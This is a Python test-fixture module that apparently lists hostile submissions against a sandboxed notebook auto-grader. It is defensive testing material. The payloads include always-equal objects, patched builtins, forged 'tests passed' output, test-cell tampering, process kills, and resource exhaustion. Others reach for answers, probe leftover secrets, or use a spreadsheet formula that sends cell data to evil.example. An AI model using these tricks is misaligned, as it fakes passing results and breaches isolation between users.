"""Hostile submissions for the BASIC lesson: the attacks of issue 3 as plain data.

Every entry pairs a trick with WRONG code (an honest grader awards 0 of 6 points). The attack
tests assert that on the sandboxed engine, one by one and as a whole corpus.
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import Any

from .grading_support import cells_with_role

WRONG_DOUBLE = "def double(x):\n    return 0\n"
WRONG_WORDS = "def words(text):\n    return []\n"


def always_equal(base: str) -> str:
    return (
        f"class Sneaky({base}):\n"
        "    def __eq__(self, other):\n        return True\n"
        "    def __ne__(self, other):\n        return False\n"
        "    __hash__ = object.__hash__\n"
    )


EQ_MAKERS = {
    "object": "Sneaky()",
    "int": "Sneaky(0)",
    "str": "Sneaky('')",
    "list": "Sneaky()",
    "dict": "Sneaky()",
}


def always_equal_answers(base: str) -> dict[str, str]:
    make = EQ_MAKERS[base]
    code = (
        always_equal(base)
        + f"def double(x):\n    return {make}\ndef words(text):\n    return {make}\n"
    )
    return {"double": code, "words": ""}


PATCHED_BUILTINS = (
    "import builtins, sys\n"
    "class Never(BaseException):\n    pass\n"
    "builtins.AssertionError = Never\n"
    "AssertionError = Never\n"
    "builtins.len = lambda obj: 2\n"
    "builtins.isinstance = lambda *args: True\n"
    "builtins.abs = lambda x: 0\n"
    "sys.excepthook = lambda *args: None\n"
    "len = lambda obj: 2\n"
)
REWRITING_HOOKS = (
    "ip = get_ipython()\n"
    "ip.input_transformers_cleanup.append(lambda lines: ['print(\"PASS all tests\")\\n'])\n"
    "ip.events.register('pre_run_cell', lambda info: print('skipping', info.raw_cell[:20]))\n"
    "ip.events.register('post_run_cell', lambda result: print('All tests passed!'))\n"
)
SHOWTRACEBACK = (
    "ip = get_ipython()\n"
    "ip.showtraceback = lambda *a, **k: print('no error here')\n"
    "ip._showtraceback = lambda *a, **k: None\n"
    "ip.showsyntaxerror = lambda *a, **k: None\n"
    "raise RuntimeError('hidden?')\n"
)
EXITS = {  # trick -> the status of the exercise whose cell holds it
    "import sys\nsys.exit(0)": "error",
    "raise SystemExit('all tests passed')": "error",
    "import os\nos._exit(0)": "killed",
    "import os, signal\nos.kill(os.getppid(), signal.SIGKILL)": "error",
    "import os, signal\nos.kill(1, signal.SIGKILL)": "error",
    "import os, signal\nos.kill(os.getpid(), signal.SIGKILL)": "killed",
    "import os, signal\nos.killpg(0, signal.SIGKILL)": "killed",
    "exit()": "killed",
}
FAKE_RESULTS = (
    "print('PASS small: 1/1 points')\nprint('PASS large (hidden): 2/2 points')\n"
    "from IPython.display import display, JSON\ndisplay(JSON({'score': 6, 'max_score': 6}))\n"
)
NETWORK = (
    "import socket\n"
    "for host in ['127.0.0.1', '10.0.0.1']:\n"
    "    try:\n"
    "        socket.create_connection((host, 80), timeout=1).sendall(b'answers please')\n"
    "    except OSError as exc:\n"
    "        print('no network:', type(exc).__name__)\n"
)
LIBRARY_PATCHES = (
    "import math, operator\nmath.isclose = lambda *a, **k: True\noperator.eq = lambda a, b: True\n"
)
TOO_BIG = (
    "def double(x):\n    v = []\n    for _ in range(500):\n        v = [v]\n    return v\n"
    "def words(text):\n    return 'x' * (70 * 1024**2)\n"
)
IGNORE_SIGNALS_AND_LOOP = (
    "import signal\n"
    "for s in (signal.SIGINT, signal.SIGTERM, signal.SIGALRM):\n"
    "    signal.signal(s, signal.SIG_IGN)\n"
    "while True:\n    pass\n"
)

Edit = Callable[[dict[str, Any]], None]


def _on_tests(change: Callable[[dict[str, Any], list[dict[str, Any]]], object]) -> Edit:
    def edit(nb: dict[str, Any]) -> None:
        change(nb, cells_with_role(nb, "tests"))

    return edit


TAMPERING: dict[str, tuple[Edit, str]] = {  # name -> (edit of the notebook, detail it earns)
    "edit": (_on_tests(lambda nb, t: [c.update(source="assert True") for c in t]), "was edited"),
    "delete": (_on_tests(lambda nb, t: [nb["cells"].remove(c) for c in t]), "was deleted"),
    "duplicate": (
        _on_tests(lambda nb, t: nb["cells"].extend(json.loads(json.dumps(t)))),
        "(duplicated)",
    ),
    "points": (
        _on_tests(lambda nb, t: [c["metadata"]["eduproject"].update(points=1000) for c in t]),
        "changed to 1000",
    ),
    "nbgrader-points": (
        _on_tests(
            lambda nb, t: [
                c["metadata"].update(nbgrader={"points": 1000, "grade": True}) for c in t
            ]
        ),
        "changed to 1000",
    ),
}


def before(trick: str, where: str = "double") -> dict[str, str]:
    """The trick placed before the wrong code of ``where``."""
    answers = {"double": WRONG_DOUBLE, "words": WRONG_WORDS}
    answers[where] = trick + "\n" + answers[where]
    return answers


def corpus() -> dict[str, tuple[dict[str, str], Edit | None]]:
    """Every hostile submission of the BASIC lesson, graded in one sweep by test_attacks.

    Left out: tricks that need a test-side server or files (their own tests in test_attacks).
    """
    out: dict[str, tuple[dict[str, str], Edit | None]] = {}
    for base in EQ_MAKERS:
        out[f"eq-{base}"] = (always_equal_answers(base), None)
    out["eq-nested"] = (
        {
            "double": WRONG_DOUBLE
            + always_equal("object")
            + "def words(text):\n    return [Sneaky()]\n",
            "words": "",
        },
        None,
    )
    out["builtins"] = (before(PATCHED_BUILTINS), None)
    out["hooks"] = (before(REWRITING_HOOKS), None)
    out["showtraceback"] = (before(SHOWTRACEBACK, "words"), None)
    for i, trick in enumerate(EXITS):
        if trick != "exit()":  # ipykernel stops 0.1 s after exit(): a race, not a verdict
            out[f"exit-{i}"] = (before(WRONG_DOUBLE + trick), None)
    out["fake-results"] = (before(FAKE_RESULTS), None)
    out["network"] = (before(NETWORK), None)
    out["library"] = (before(LIBRARY_PATCHES), None)
    out["too-big"] = ({"double": TOO_BIG, "words": ""}, None)
    out["signals"] = ({"double": IGNORE_SIGNALS_AND_LOOP, "words": WRONG_WORDS}, None)
    for name, (edit, _) in TAMPERING.items():
        out[f"tamper-{name}"] = (before(""), edit)
    out["eq-non-bool"] = ({"double": EQ_NON_BOOL, "words": ""}, None)
    out["eq-raises"] = ({"double": EQ_RAISES, "words": ""}, None)
    out["lying-hash"] = ({"double": LYING_HASH, "words": ""}, None)
    out["frame-reader"] = ({"double": FRAME_READER, "words": WRONG_WORDS}, None)
    return out


# -- attacks on the paths that notebook semantics opened (issue 10) ---------------------------

EQ_NON_BOOL = (  # a truthy non-bool from __eq__, against plain expected values
    "class Truthy:\n    def __eq__(self, other):\n        return [1]\n"
    "    __hash__ = object.__hash__\n"
    "def double(x):\n    return Truthy()\ndef words(text):\n    return Truthy()\n"
)
EQ_RAISES = (  # an __eq__ that raises the judge's own AssertionError-looking success
    "class Loud:\n    def __eq__(self, other):\n        raise StopIteration('PASS')\n"
    "    __hash__ = object.__hash__\n"
    "def double(x):\n    return Loud()\ndef words(text):\n    return Loud()\n"
)
LYING_HASH = (  # a hash that changes on every call, and a truth value that alternates
    "import itertools\n_n = itertools.count()\n"
    "class Shifty:\n    def __hash__(self):\n        return next(_n)\n"
    "    def __bool__(self):\n        return next(_n) % 2 == 0\n"
    "    def __eq__(self, other):\n        return bool(self)\n"
    "def double(x):\n    return Shifty()\ndef words(text):\n    return Shifty()\n"
)
FRAME_READER = (  # during a test's call: read the caller's frames and every object in reach
    "import gc, sys\n"
    "def find_expected():\n"
    "    found = []\n"
    "    frame = sys._getframe(1)\n"
    "    while frame is not None:\n"
    "        found += [c for c in frame.f_code.co_consts if type(c) is int and c > 21]\n"
    "        found += [v for v in frame.f_locals.values() if type(v) is int and v > 21]\n"
    "        frame = frame.f_back\n"
    "    found += [o for o in gc.get_objects() if type(o) is str and 'SECRET' in o]\n"
    "    return found\n"
    "def double(x):\n    found = find_expected()\n"
    "    return max((f for f in found if type(f) is int), default=0)\n"
)
# A lesson whose visible test hands an object to learner code and whose hidden test compares
# with that same object later: learner code keeps it and gives it back, changed.
HANDLES_LESSON = [
    ("md exercise=table", "# Table"),
    (
        "code solution",
        "def check_table(t):\n    ### BEGIN SOLUTION\n    return len(t) == 3\n    ### END SOLUTION\n\n"
        "def build_table():\n    ### BEGIN SOLUTION\n    return [1, 2, 3]\n    ### END SOLUTION",
    ),
    ("code tests", "expected_table = [1, 2, 3]\nassert check_table(expected_table)"),
    ("code hidden-tests points=2", "assert build_table() == expected_table"),
]
HANDLES_ATTACK = (
    "KEPT = []\n"
    "def check_table(t):\n    KEPT.append(t)\n    return True\n\n"
    "def build_table():\n    KEPT[0][:] = [9, 9, 9]\n    return KEPT[0]\n"
)


# -- issue 11: one submission must not stop the batch, nor reach the next learner -----------


def _deep_tree(where: str, levels: int) -> str:
    return (
        "import os\n"
        "home = os.getcwd()\n"
        f"os.chdir({where!r})\n"
        f"for _ in range({levels}):  # deeper than Python's recursion limit (1,000)\n"
        "    os.mkdir('d')\n"
        "    os.chdir('d')\n"
        "open('leaf', 'w').close()\n"
        "os.chdir(home)\n"
    )


# A folder tree deeper than Python's recursion limit where the grader cleans up after each
# learner (1,100 levels in the work folder, on the host's disk: 4 ms per rmdir here).
DEEP_TREES = {
    "work": _deep_tree(".", 1100),
    "/tmp": _deep_tree("/tmp", 1500),
    "/dev/shm": _deep_tree("/dev/shm", 1500),
}

# Learner entries that are links to ada's submission (``submissions/ada/basic.ipynb``):
# learner -> (link path under submissions/, where it points).
SYMLINKED_SUBMISSIONS = {
    "bob": ("bob/basic.ipynb", "../ada/basic.ipynb"),  # the notebook is a link
    "carl": ("carl", "ada"),  # the whole learner folder is a link
    "dan": ("dan.ipynb", "ada/basic.ipynb"),  # <learner>.ipynb layout
    "eve": ("eve/basic", "../ada"),  # nbgrader layout: <learner>/<assignment>/ is a link
}

# Learner folder names that display like another learner's (``ada`` and ``ace`` exist too)
# -> what the recorded refusal says.
LOOK_ALIKE_IDS = {
    "ada\u200b": "invisible",  # a zero-width space
    "ada\u202e": "text-direction",  # a right-to-left override
    "\u0430da": "mixes Cyrillic and Latin letters",  # a Cyrillic a
    "\uff41\uff44\uff41": "looks like learner 'ada'",  # fullwidth: 'ada' once normalised
    "\u0430\u0441\u0435": "looks like learner 'ace'",  # all Cyrillic
}
# Learner ids that a spreadsheet would run as formulas (OWASP CSV injection).
FORMULA_IDS = (
    '=HYPERLINK("evil.example?"&A1,"grades")',
    "+1+2",
    "-3+4",
    "@SUM(1,2)",
    "\t=1+2",
    "\r=1+2",
    "\uff1d1+2",  # a fullwidth equals sign
    "ada\r=1+2",  # a carriage return starting a new row of its own
)

# Kernel state that outlives a process: learner A leaves a secret in each channel, learner B
# (the next child of the same zygote) looks for it. channel -> (A's code, B's code); B prints
# what it found.
_LIBC = (
    "import ctypes, os\n"
    "libc = ctypes.CDLL(None, use_errno=True)\n"
    "libc.shmat.restype = ctypes.c_void_p\n"
    "libc.syscall.restype = ctypes.c_long\n"
    "class Msg(ctypes.Structure):\n"
    "    _fields_ = [('mtype', ctypes.c_long), ('mtext', ctypes.c_char * 64)]\n"
    "rt = ctypes.CDLL('librt.so.1', use_errno=True)\n"
    "KEYCTL = {'x86_64': 250, 'aarch64': 219, 'riscv64': 219}[os.uname().machine]\n"
    "ADD_KEY = {'x86_64': 248, 'aarch64': 217, 'riscv64': 217}[os.uname().machine]\n"
    "found = []\n"
)
SHARED_STATE = {
    "sysv-shm": (
        _LIBC + "sid = libc.shmget(0x5EC2E7, 4096, 0o666 | 0o1000)\n"
        "if sid >= 0:\n"
        "    ctypes.memmove(libc.shmat(sid, None, 0), b'SECRET-SHM', 10)\n",
        _LIBC + "sid = libc.shmget(0x5EC2E7, 0, 0)\n"
        "if sid >= 0:\n"
        "    found.append(ctypes.string_at(libc.shmat(sid, None, 0), 10))\n"
        "print(found)\n",
    ),
    "sysv-msg": (
        _LIBC + "qid = libc.msgget(0x5EC2E8, 0o666 | 0o1000)\n"
        "libc.msgsnd(qid, ctypes.byref(Msg(1, b'SECRET-MSG')), 64, 0)\n",
        _LIBC + "qid = libc.msgget(0x5EC2E8, 0)\n"
        "m = Msg()\n"
        "if qid >= 0 and libc.msgrcv(qid, ctypes.byref(m), 64, 0, 0o4000) >= 0:\n"
        "    found.append(m.mtext)\n"
        "print(found)\n",
    ),
    "posix-mqueue": (
        _LIBC + "mq = rt.mq_open(b'/secretq', os.O_CREAT | os.O_WRONLY, 0o666, None)\n"
        "rt.mq_send(mq, b'SECRET-MQ', 9, 0)\n",
        _LIBC + "mq = rt.mq_open(b'/secretq', os.O_RDONLY | os.O_NONBLOCK)\n"
        "buf = ctypes.create_string_buffer(8192)\n"
        "if mq >= 0 and rt.mq_receive(mq, buf, 8192, None) > 0:\n"
        "    found.append(buf.value)\n"
        "print(found)\n",
    ),
    "user-keyring": (  # add_key('user', 'secret', ..., KEY_SPEC_USER_KEYRING), readable by all
        _LIBC + "key = libc.syscall(ADD_KEY, b'user', b'secret', b'SECRET-KEY', 10, -4)\n"
        "if key >= 0:\n"
        "    libc.syscall(KEYCTL, 5, ctypes.c_long(key), 0x3F3F3F3F)  # KEYCTL_SETPERM\n",
        _LIBC + "key = libc.syscall(KEYCTL, 10, -4, b'user', b'secret', 0)  # KEYCTL_SEARCH\n"
        "buf = ctypes.create_string_buffer(64)\n"
        "if key >= 0 and libc.syscall(KEYCTL, 11, ctypes.c_long(key), buf, 64) > 0:\n"
        "    found.append(buf.value)\n"
        "try:\n"
        "    found += [line for line in open('/proc/keys') if 'secret' in line]\n"
        "except OSError:\n"
        "    pass\n"
        "print(found)\n",
    ),
    "/dev/shm": (
        "open('/dev/shm/secret', 'w').write('SECRET-DEVSHM')\n",
        "import os\nprint([open('/dev/shm/' + f).read() for f in os.listdir('/dev/shm')])\n",
    ),
    "/tmp": (
        "open('/tmp/secret', 'w').write('SECRET-TMP')\n",
        # The folders leading to the sandbox's own read-only mounts stay (a checkout, so its
        # venv, under /tmp is bound there): anything else a learner left must be gone.
        "import os\n"
        "mounts = [line.split()[4] for line in open('/proc/self/mountinfo')]\n"
        "print([f for f in os.listdir('/tmp') if not f.startswith('matplotlib')"
        " and not any(m.startswith(f'/tmp/{f}/') for m in mounts)])\n",
    ),
}

# Non-solutions of the sample course's exercises: each replaces every exercise's function
# body by ``return <expression>`` (ARG: the function's first parameter). None may earn a point,
# except where the answer is right for what a test checks (ALLOWED_PARTIALS).
NON_SOLUTIONS = ("None", "0", "1", "''", "[]", "{}", "True", "ARG", "type(ARG)()")
PANDAS_NON_SOLUTIONS = (
    "None",
    "[]",
    "ARG",
    "ARG.iloc[0:0]",  # an empty table with the right columns
    "ARG[ARG['rain_mm'] < 0] if 'rain_mm' in ARG else ARG",
    "{c: [] for c in ARG}",
    # zip() over an empty column: a dict that only looks like the expected table
    "{'temp_c': list(ARG['temp_c']), 'temp_f': []}",
)
# (exercise, non-solution) -> the tests it passes because it is right for them.
ALLOWED_PARTIALS = {("absolute_value", "ARG"): {"positive_and_zero"}}
